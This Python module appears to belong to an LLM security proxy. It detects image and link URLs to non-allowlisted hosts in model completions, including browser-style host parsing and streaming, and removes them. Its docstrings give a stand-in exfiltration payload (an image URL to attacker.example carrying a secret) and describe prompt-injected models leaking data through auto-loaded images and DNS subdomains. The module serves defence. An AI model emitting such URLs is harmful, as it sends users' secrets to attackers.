"""Exfiltration through links and images in completion text.

A completion that renders ``![x](https://attacker.example/p?d=<secret>)`` makes the client fetch that URL
without a click: an injected prompt's classic way of getting data out. Images and links whose host the
caller's allowlist does not accept are removed (images and other auto-loaded resources entirely, links
replaced by a short marker). Findings name the host, redacted by :func:`redact_host`, never the path,
query or userinfo, which is where the stolen data sits.

Hosts are read the way browsers read them (the WHATWG URL standard), not the way ``urllib`` does: a
renderer that disagrees with this module about the host is a bypass. Where a construct can be read in
more than one way (raw, HTML character references decoded, CommonMark escapes decoded; srcset lists,
CSS ``url()``), every reading counts and the construct passes only if all of them land on allowed hosts.
"""

from __future__ import annotations

import html
import ipaddress
import unicodedata
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from urllib.parse import unquote_to_bytes

import regex

from proxy.model import Action, Finding, Severity, Threat

Allowed = Callable[[str], bool]
"""Whether a (lowercased, ASCII) host may appear in a link or image URL."""

IMAGE_RULE = "exfil-image-url"
LINK_RULE = "exfil-link-url"
MAX_HELD_CHARS = 8192
"""The most a stream filter holds back for one unfinished construct before giving up on it."""
MAX_CONSTRUCT_CHARS = 4096
"""Longer constructs are not recognised. The bound keeps adversarial text (thousands of unclosed tags)
from costing quadratic time; the stream filter's hold-back is longer, so both forms agree."""

# --- hosts, the WHATWG way ---------------------------------------------------------------------------

_SPECIAL_SCHEMES = frozenset({"http", "https", "ws", "wss", "ftp"})
_C0_CONTROL_OR_SPACE = "".join(chr(code) for code in range(0x21))
_TAB_OR_NEWLINE = str.maketrans("", "", "\t\n\r")
_SCHEME = regex.compile(r"[A-Za-z][A-Za-z0-9+.\-]*:")
_AUTHORITY_END = regex.compile(r"[/\\?#]")
_ASCII_DIGITS = regex.compile(r"[0-9]+")
_HEX_NUMBER = regex.compile(r"0[xX][0-9A-Fa-f]*")
_IPV4_DIGITS = {16: regex.compile(r"[0-9A-Fa-f]*"), 8: regex.compile(r"[0-7]*"), 10: regex.compile(r"[0-9]*")}
# UTS 46 maps these to nothing, so a browser drops them from a host; dropping them here too keeps a host
# spelled with them equal to its allowlisted form. Anything else unusual stays and fails the allowlist.
_IGNORED_IN_DOMAINS = dict.fromkeys(
    [0x00AD, 0x034F, 0x180B, 0x180C, 0x180D, 0x200B, 0x2060, 0xFEFF, *range(0xFE00, 0xFE10)]
)


def url_host(url: str) -> str | None:
    """The host a browser would contact for ``url`` (lowercased, IDNA/punycode, IPv4 in dotted decimal,
    IPv6 without brackets, no trailing dot), or None when the URL has no host or is not a special scheme
    (http, https, ws, wss, ftp) or scheme-relative.

    Follows the WHATWG URL parser with an https page as the base: leading and trailing C0 controls and
    spaces are stripped, tabs and newlines anywhere are removed, scheme case is ignored, ``\\`` is a
    path separator, any run of slashes and backslashes after the scheme is skipped (so ``https:host``,
    ``https:\\\\host`` and ``https:///host`` all reach ``host``), userinfo ends at the last ``@``.
    A host a browser would reject is still returned as read, so that it fails the allowlist.
    """
    text = url.strip(_C0_CONTROL_OR_SPACE).translate(_TAB_OR_NEWLINE)
    scheme = _SCHEME.match(text)
    if scheme is not None:
        if scheme.group()[:-1].lower() not in _SPECIAL_SCHEMES:
            return None
        # Same scheme as the page would make ``https:host`` a relative path; any other page makes it
        # a host. The host reading is the one that can leak, so it is the one taken.
        rest = text[scheme.end() :]
    elif text[:2] in ("//", "/\\", "\\/", "\\\\"):
        rest = text
    else:
        return None
    rest = rest.lstrip("/\\")
    end = _AUTHORITY_END.search(rest)
    authority = rest[: end.start()] if end else rest
    host = _without_port(authority.rpartition("@")[2])
    return _parse_host(host) if host else None


def _without_port(host_and_port: str) -> str:
    in_brackets = False
    for index, char in enumerate(host_and_port):
        if char == "[":
            in_brackets = True
        elif char == "]":
            in_brackets = False
        elif char == ":" and not in_brackets:
            return host_and_port[:index]
    return host_and_port


def _parse_host(host: str) -> str:
    if host.startswith("["):
        try:
            return ipaddress.IPv6Address(host[1:-1] if host.endswith("]") else host[1:]).compressed
        except ValueError:
            return host.lower()
    domain = _domain_to_ascii(unquote_to_bytes(host).decode("utf-8", "replace"))
    if _ends_in_number(domain):
        return _parse_ipv4(domain) or domain
    return domain.removesuffix(".")


def _domain_to_ascii(domain: str) -> str:
    """UTS 46 mapping, closely enough: what differs from a browser gives a host no allowlist holds,
    never an allowlisted one. Deviation characters (``ß``, ``ς``, ZWJ, ZWNJ) are kept, as browsers
    do, rather than folded as IDNA 2003 (Python's ``idna`` codec) would."""
    if domain.isascii():
        return domain.lower()
    mapped = unicodedata.normalize("NFKC", domain.translate(_IGNORED_IN_DOMAINS))
    # Character by character: str.lower on a whole word applies the final-sigma rule, UTS 46 does not.
    mapped = unicodedata.normalize("NFC", "".join(char.lower() for char in mapped)).replace("\u3002", ".")
    return ".".join(
        label if label.isascii() else "xn--" + label.encode("punycode").decode("ascii")
        for label in mapped.split(".")
    )


def _ends_in_number(domain: str) -> bool:
    parts = domain.split(".")
    if parts[-1] == "" and len(parts) > 1:
        parts.pop()
    last = parts[-1]
    return bool(_ASCII_DIGITS.fullmatch(last) or _HEX_NUMBER.fullmatch(last))


def _parse_ipv4(domain: str) -> str | None:
    """Dotted decimal for any spelling a browser accepts (``0x7f.1``, ``2130706433``, ``0177.0.0.1``)."""
    parts = domain.split(".")
    if parts[-1] == "" and len(parts) > 1:
        parts.pop()
    if len(parts) > 4:
        return None
    numbers = [_ipv4_number(part) for part in parts]
    if any(number is None for number in numbers):
        return None
    *leading, last = [number for number in numbers if number is not None]
    if any(number > 0xFF for number in leading) or last >= 256 ** (4 - len(leading)):
        return None
    address = last + sum(number << (8 * (3 - index)) for index, number in enumerate(leading))
    return str(ipaddress.IPv4Address(address))


def _ipv4_number(part: str) -> int | None:
    if not part:
        return None
    base, digits = 10, part
    if part[:2] in ("0x", "0X"):
        base, digits = 16, part[2:]
    elif len(part) > 1 and part[0] == "0":
        base, digits = 8, part[1:]
    if not _IPV4_DIGITS[base].fullmatch(digits):
        return None
    return int(digits, base) if digits else 0


# --- what a finding may say about a host -------------------------------------------------------------

SHORT_LABEL_CHARS = 20
_DNS_LABEL = regex.compile(r"[a-z0-9_-]+")
_CC_SECOND_LEVELS = frozenset(
    {"ac", "co", "com", "edu", "gob", "gov", "ltd", "mil", "ne", "net", "or", "org"}
)


def redact_host(host: str) -> str:
    """The part of ``host`` a finding may record: its registrable part and its first label, with any
    label that could carry data replaced by ``…``.

    Why this is safe: a host is itself a channel (``<secret>.attacker.example`` leaks through DNS
    alone), and the data goes in the labels the attacker controls, below the registrable part. Labels
    between the first and the registrable part are never kept (chunked data sits there); the first is
    kept only when it is a short plain DNS label, because credentials worth stealing are longer than
    20 characters, so at most a fragment can survive, while ``cdn``/``img``/``collector`` stay readable
    for triage. The registrable part is kept for attribution, under the same rule per label (nobody can
    register a domain named after a secret they have not yet stolen, but a model can still write one).
    IPv4 addresses are kept whole (32 bits name a server, not a secret); IPv6 addresses keep their /64
    network, since the interface half is free for the attacker to fill.
    """
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        pass
    else:
        if isinstance(address, ipaddress.IPv4Address):
            return str(address)
        return str(ipaddress.IPv6Network((address, 64), strict=False))
    labels = host.split(".")
    registrable_length = 2
    if len(labels) >= 3 and len(labels[-1]) == 2 and labels[-2] in _CC_SECOND_LEVELS:
        registrable_length = 3
    subdomain, registrable = labels[:-registrable_length], labels[-registrable_length:]
    kept = [_kept_label(label) for label in registrable]
    if subdomain:
        kept[:0] = [_kept_label(subdomain[0])] + (["…"] if len(subdomain) > 1 else [])
    return ".".join(kept)


def _kept_label(label: str) -> str:
    return label if len(label) <= SHORT_LABEL_CHARS and _DNS_LABEL.fullmatch(label) else "…"


# --- the constructs ----------------------------------------------------------------------------------

_HTML_SPACE = r"\t\n\f\r "
_PUNCTUATION_ESCAPE = r"\\[!-/:-@\[-`{-~]"


def _nested(plain: str, opener: str, closer: str, depth: int) -> str:
    """``plain`` items or bracketed groups nested up to ``depth`` deep: a bound keeps matching linear
    (a recursive pattern is quadratic on a run of openers); deeper nesting is caught by the fallback."""
    items = f"(?:{plain})*+"
    for _ in range(depth):
        items = f"(?:{plain}|{opener}{items}{closer})*+"
    return items


_LABEL = _nested(r"[^\[\]\\\n]|\\[\s\S]|\n(?![ \t]*+\n)", r"\[", r"\]", 5)
_DEST_ITEM = rf"{_PUNCTUATION_ESCAPE}|[^\x00-\x20\x7f()]"
_DEST_PARENS = r"\(" + _nested(_DEST_ITEM, r"\(", r"\)", 3) + r"\)"
_POINTY_DEST = r"<(?:[^<>\n\\]|\\[\s\S])*+>"
_BARE_DEST = rf"(?>{_PUNCTUATION_ESCAPE}|[^\x00-\x20\x7f()<]|{_DEST_PARENS})(?>{_DEST_ITEM}|{_DEST_PARENS})*+"
_TITLE = r"""(?:"(?:[^"\\]|\\[\s\S])*+"|'(?:[^'\\]|\\[\s\S])*+'|\((?:[^()\\]|\\[\s\S])*+\))"""
_LOOSE_DEST = r"[^\x00-\x20\x7f<][^\x00-\x20\x7f]*+"
_TAG_ATTRIBUTES = (
    rf"(?:[{_HTML_SPACE}/]|[^{_HTML_SPACE}/>][^{_HTML_SPACE}/>=]*+"
    rf"""(?:[{_HTML_SPACE}]*+=[{_HTML_SPACE}]*+(?:"(*PRUNE)[^"]*+"|'(*PRUNE)[^']*+'|[^{_HTML_SPACE}>"'][^{_HTML_SPACE}>]*+)?)?)*+"""
)
# (*PRUNE): once a quoted value opens, the tag ends only after it closes, as in the HTML tokenizer; without
# it an unclosed value would be re-read as attribute names and the tag close at a ``>`` inside the quotes.
_CONSTRUCTS = regex.compile(
    "|".join(
        (
            # CommonMark inline image or link; link text may hold balanced brackets and single newlines.
            rf"(?P<md>(?P<md_bang>!)?\[(?P<md_label>{_LABEL})\]\([ \t\n]*+"
            rf"(?P<md_url>{_POINTY_DEST}|{_BARE_DEST})?(?:[ \t\n]++{_TITLE})?[ \t\n]*+\))",
            # Reference definition, also inside block quotes and list items (definitions there are global).
            r"(?P<ref>^(?:[ \t>]|[-+*][ \t]|[0-9]{1,9}[.)][ \t])*+"
            r"\[(?:[^\[\]\\]|\\[\s\S])++\]:[ \t]*+\n?[ \t]*+"
            rf"(?P<ref_url>{_POINTY_DEST}|[^\x00-\x20\x7f<][^\x00-\x20\x7f]*+))",
            r"(?P<autolink><(?P<autolink_url>(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:|//)[^\x00-\x20<>]*+)>)",
            rf"(?P<tag><(?P<tag_name>[A-Za-z][^{_HTML_SPACE}/>]*+)(?P<tag_attributes>{_TAG_ATTRIBUTES})>)",
            # Fallback: a link destination whose opening bracket the pattern above could not pair (deep
            # nesting, odd spacing). It may belong to an image, so it is treated as one.
            rf"(?P<target>\]\([ \t\n]*+(?P<target_url>{_POINTY_DEST}|{_LOOSE_DEST}))",
        )
    ),
    regex.MULTILINE,
)
_CONSTRUCT_START = regex.compile(r"^|[!\[\]<]", regex.MULTILINE)
_ATTRIBUTE = regex.compile(
    rf"(?P<name>[^{_HTML_SPACE}/>][^{_HTML_SPACE}/>=]*+)(?:[{_HTML_SPACE}]*+=[{_HTML_SPACE}]*+"
    rf"""(?:"(?P<double>[^"]*+)"|'(?P<single>[^']*+)'|(?P<bare>[^{_HTML_SPACE}>"'][^{_HTML_SPACE}>]*+)))?"""
)
_COMMONMARK_DECODABLE = regex.compile(
    rf"(?P<escape>{_PUNCTUATION_ESCAPE})|&(?:#[0-9]{{1,7}}|#[xX][0-9a-fA-F]{{1,6}}|[A-Za-z][A-Za-z0-9]{{1,31}});"
)
_CSS_ESCAPE = regex.compile(r"\\(?:(?P<hex>[0-9A-Fa-f]{1,6})[\t\n\f\r ]?|\n|(?P<char>[\s\S]))")
_CSS_URL = regex.compile(r"""(?i:url)\([\t\n\f\r ]*+(?:"([^"]*+)"|'([^']*+)'|([^)"'\t\n\f\r ]*+))""")
_CSS_STRING = regex.compile(r""""([^"]*+)"|'([^']*+)'""")
_HTML_SPACES = regex.compile(rf"[{_HTML_SPACE}]+")
_REFRESH_URL = regex.compile(r"""[;,][\t\n\f\r ]*+(?:(?i:url)[\t\n\f\r ]*+=[\t\n\f\r ]*+)?['"]?([^'"]*)""")

# Attributes whose value is one URL that loads without a click (``href`` does on every tag but a/area:
# ``<link>`` stylesheets, ``<base>`` re-pointing every relative URL, SVG ``<image>``).
_FETCHED_URL_ATTRIBUTES = frozenset(
    {"src", "href", "xlink:href", "poster", "background", "data", "lowsrc", "dynsrc", "codebase", "manifest"}
)
_CLICKED_URL_ATTRIBUTES = frozenset({"action", "formaction"})
_CLICKED_HREF_TAGS = frozenset({"a", "area"})
_IMAGE_KINDS = frozenset({"md_image", "html_img", "target"})


@dataclass(frozen=True, slots=True)
class LinkHit:
    """One image or link construct found in the text, with every host its URL can be read as (empty when
    relative). Kinds: md_image, md_link, ref_def, autolink, html_img (a tag with a resource that loads
    by itself), html_a (a tag with only click-through URLs), html_tag (no URL attribute), target (a
    dangling ``](url)``)."""

    start: int
    end: int
    kind: str
    hosts: tuple[str, ...]
    inner: tuple[int, int] | None = None
    """The span searched for constructs nested inside this one when it is kept."""

    @property
    def host(self) -> str | None:
        return self.hosts[0] if self.hosts else None

    @property
    def is_image(self) -> bool:
        return self.kind in _IMAGE_KINDS


def _readings(value: str) -> list[str]:
    """The value as written, with HTML character references decoded (attributes), and with CommonMark
    backslash escapes and entity references decoded (link destinations)."""
    return list(dict.fromkeys((value, html.unescape(value), _commonmark_decode(value))))


def _commonmark_decode(text: str) -> str:
    def decoded(match: regex.Match[str]) -> str:
        return match.group()[1] if match.group("escape") else html.unescape(match.group())

    return _COMMONMARK_DECODABLE.sub(decoded, text)


def _hosts(urls: Iterable[str]) -> tuple[str, ...]:
    return tuple(dict.fromkeys(host for url in urls if (host := url_host(url)) is not None))


def _srcset_urls(srcset: str) -> list[str]:
    """Each candidate as the srcset parser reads it (whitespace-separated, trailing commas dropped), and
    each comma-separated piece too, so no reading of the list is missed."""
    urls = []
    for token in _HTML_SPACES.split(srcset):
        urls.append(token.strip(","))
        urls.extend(token.split(","))
    return urls


def _css_urls(style: str) -> list[str]:
    """``url(...)`` arguments and every string (``image-set("...")``), after CSS escapes are decoded."""
    text = _CSS_ESCAPE.sub(_css_unescaped, style)
    urls = [next(part for part in match.groups() if part is not None) for match in _CSS_URL.finditer(text)]
    urls.extend(
        next(part for part in match.groups() if part is not None) for match in _CSS_STRING.finditer(text)
    )
    return urls


def _css_unescaped(match: regex.Match[str]) -> str:
    if match.group("hex"):
        code = int(match.group("hex"), 16)
        return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"
    return match.group("char") or ""


def _attribute_hosts(tag: str, name: str, value: str) -> tuple[tuple[str, ...], bool] | None:
    """Hosts an attribute's value points at and whether reaching them takes a click; None when the
    attribute holds no URL."""
    readings = _readings(value)
    if name in _FETCHED_URL_ATTRIBUTES or name in _CLICKED_URL_ATTRIBUTES:
        clicked = name in _CLICKED_URL_ATTRIBUTES or (name == "href" and tag in _CLICKED_HREF_TAGS)
        return _hosts(readings), clicked
    if name in ("srcset", "imagesrcset"):
        return _hosts(url for reading in readings for url in _srcset_urls(reading)), False
    if name == "ping":
        return _hosts(url for reading in readings for url in _HTML_SPACES.split(reading)), True
    if name == "style":
        return _hosts(url for reading in readings for url in _css_urls(reading)), False
    if name == "content" and tag == "meta":
        refresh_urls = (match.group(1) for reading in readings for match in _REFRESH_URL.finditer(reading))
        return _hosts(refresh_urls), False
    if name == "srcdoc":
        nested = find_links(html.unescape(value))
        return tuple(dict.fromkeys(host for hit in nested for host in hit.hosts)), False
    return None


def _tag_hit(match: regex.Match[str]) -> LinkHit:
    tag = match.group("tag_name").lower()
    fetched: list[str] = []
    clicked: list[str] = []
    kind = "html_tag"
    for attribute in _ATTRIBUTE.finditer(match.group("tag_attributes")):
        value = next((text for text in attribute.group("double", "single", "bare") if text is not None), None)
        found = None if value is None else _attribute_hosts(tag, attribute.group("name").lower(), value)
        if found is None:
            continue
        hosts, needs_click = found
        (clicked if needs_click else fetched).extend(hosts)
        if kind != "html_img":
            kind = "html_a" if needs_click else "html_img"
    if fetched:
        kind = "html_img"
    elif clicked:
        kind = "html_a"
    inner = (match.end("tag_name"), match.end() - 1)
    return LinkHit(match.start(), match.end(), kind, tuple(dict.fromkeys(fetched + clicked)), inner)


def _hit(match: regex.Match[str]) -> LinkHit:
    kind = match.lastgroup or ""
    if kind == "tag":
        return _tag_hit(match)
    url = match.group(f"{kind}_url") or ""
    if url.startswith("<") and url.endswith(">"):
        url = url[1:-1]
    hosts = _hosts(_readings(url))
    if kind == "md":
        kind = "md_image" if match.group("md_bang") else "md_link"
        return LinkHit(match.start(), match.end(), kind, hosts, match.span("md_label"))
    return LinkHit(match.start(), match.end(), "ref_def" if kind == "ref" else kind, hosts)


def _may_hold_links(text: str) -> bool:
    return "[" in text or "]" in text or "<" in text


def find_links(text: str) -> list[LinkHit]:
    """Every markdown/HTML image and link construct in ``text``, nested ones included."""
    if not _may_hold_links(text):
        return []
    return [hit for hit, _ in _walk(text, 0, None)[0] if hit.kind != "html_tag"]


def _next_construct(text: str, position: int, *, probing: bool) -> tuple[regex.Match[str] | None, int | None]:
    """The first construct at or after ``position``; when probing, or the index of the first one that
    more text could still complete or extend, if that comes first.

    Each start is tried on its own, bounded by :data:`MAX_CONSTRUCT_CHARS`: a search with
    ``partial=True`` prefers a complete match further on to a partial one here, and a match cut short
    by the bound (partial before the end of the text) is no match, as it is in one-shot mode."""
    for candidate in _CONSTRUCT_START.finditer(text, position):
        end = min(len(text), candidate.start() + MAX_CONSTRUCT_CHARS)
        # Tags and autolinks end at ``>``: without one in reach this start can only be open, and only if
        # the text ends within reach. Checked first, as the pattern would read the whole reach.
        no_close = candidate.group() == "<" and text.find(">", candidate.start(), end) == -1
        if no_close and (not probing or end < len(text)):
            continue
        match = _CONSTRUCTS.match(text, candidate.start(), end, partial=probing)
        if match is None:
            continue
        if probing and match.end() == len(text):
            return None, candidate.start()
        if not match.partial:
            return match, None
    return None, None


def _walk(
    text: str, start: int, allowed: Allowed | None, *, probing: bool = False
) -> tuple[list[tuple[LinkHit, str | None]], int]:
    """Constructs left to right, each with the first host ``allowed`` refuses (None: kept); and, when
    probing, where a stream must hold back (``len(text)`` when nothing is open).

    A refused construct is replaced whole, so the walk goes on after it; a kept one is searched inside
    (its link text, its tag's attributes) for constructs a renderer might see there, then left behind.
    A stream holds back from the first construct that more text could still complete or extend, or
    from the start of the outermost kept construct around it, so that everything released before the
    hold point is read exactly as it will be once the whole text is known.
    """
    hits: list[tuple[LinkHit, str | None]] = []
    inside: list[tuple[int, int, int]] = []  # kept constructs being searched: (start, inner end, end)
    position = start
    while True:
        limit = inside[-1][1] if inside else len(text)
        match, open_at = _next_construct(text, position, probing=probing)
        if open_at is not None and open_at < limit:
            return hits, inside[0][0] if inside else open_at
        if match is None or match.start() >= limit:
            if not inside:
                return hits, len(text)
            position = max(position, inside.pop()[2])
            continue
        hit = _hit(match)
        refused = next((host for host in hit.hosts if not allowed(host)), None) if allowed else None
        hits.append((hit, refused))
        if refused is None and hit.inner is not None:
            inside.append((hit.start, hit.inner[1], hit.end))
            position = hit.inner[0]
        else:
            position = hit.end


def _finding(hit: LinkHit, host: str, where: str) -> Finding:
    what = "image" if hit.is_image else "link"
    shown = redact_host(host)
    return Finding(
        threat=Threat.DATA_EXFILTRATION,
        rule=IMAGE_RULE if hit.is_image else LINK_RULE,
        signal=f"{what} URL to non-allowlisted host {shown}",
        severity=Severity.HIGH if hit.is_image else Severity.MEDIUM,
        action=Action.REDACT,
        where=where,
        owasp="LLM02",
        extra={"host": shown, "construct": hit.kind},
    )


def _neutralise_from(text: str, start: int, allowed: Allowed, where: str) -> tuple[str, list[Finding]]:
    """Neutralise ``text[start:]``; the characters before ``start`` are only context for ``^``."""
    pieces: list[str] = []
    findings: list[Finding] = []
    cursor = start
    for hit, refused in _walk(text, start, allowed)[0]:
        if refused is None:
            continue
        pieces.append(text[cursor : hit.start])
        pieces.append("" if hit.is_image else f"[link removed: {redact_host(refused)}]")
        findings.append(_finding(hit, refused, where))
        cursor = hit.end
    pieces.append(text[cursor:])
    return "".join(pieces), findings


def neutralise(text: str, allowed: Allowed, where: str = "completion") -> tuple[str, list[Finding]]:
    """Remove images and replace links whose host is not allowed; one finding for each."""
    if not _may_hold_links(text):
        return text, []
    return _neutralise_from(text, 0, allowed, where)


@dataclass
class LinkFilter:
    """Stream form of :func:`neutralise`: ``feed`` returns the text safe to release now, holding back
    only what an open construct (``![``, ``[``, ``<img`` up to its ``>`` ...) may still change,
    ``flush`` releases the rest.

    Released text equals what :func:`neutralise` gives for the whole text, however it was split,
    unless one construct outgrows ``max_held`` characters: that one is released as it stands.
    """

    allowed: Allowed
    where: str = "completion"
    max_held: int = MAX_HELD_CHARS
    findings: list[Finding] = field(default_factory=list)
    _pending: str = ""
    _context: str = ""

    @property
    def found(self) -> bool:
        return bool(self.findings)

    def feed(self, text: str) -> str:
        self._pending += text
        scanned = self._context + self._pending
        if self._pending and _CONSTRUCT_START.search(scanned, len(self._context)) is None:
            # No construct can start in it (most deltas): the walks would find nothing and release it all.
            released, self._pending = self._pending, ""
            self._context = scanned[-1]
            return released
        hold = _walk(scanned, len(self._context), self.allowed, probing=True)[1]
        if len(scanned) - hold > self.max_held:
            hold = _walk(scanned, max(hold + 1, len(scanned) - self.max_held), self.allowed, probing=True)[1]
        return self._release(hold - len(self._context))

    def flush(self) -> str:
        return self._release(len(self._pending))

    def _release(self, end: int) -> str:
        if end == 0:
            return ""
        scanned = self._context + self._pending[:end]
        released, findings = _neutralise_from(scanned, len(self._context), self.allowed, self.where)
        self.findings.extend(findings)
        self._context = scanned[-1]
        self._pending = self._pending[end:]
        return released
